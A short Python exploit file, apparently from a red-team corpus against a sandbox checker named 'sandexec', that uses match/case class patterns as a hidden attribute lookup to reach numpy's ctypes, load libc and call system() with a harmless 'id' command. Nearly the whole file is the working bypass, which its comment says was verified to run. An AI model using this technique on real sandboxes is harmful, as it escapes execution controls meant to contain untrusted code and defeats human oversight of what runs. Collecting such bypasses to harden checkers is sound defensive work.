# Source: black-box attack on sandexec's check, 2026-11-26; family: match class/mapping patterns as getattr/subscript by constant name
# Verified to run in sandexec-python:bookworm when unchecked.
import numpy as np
match np:
    case object(ctypeslib=object(ctypes=object(CDLL=cdll))):
        match cdll("libc.so.6"):
            case object(system=run):
                run(b"id; echo NATIVE-LIBC")
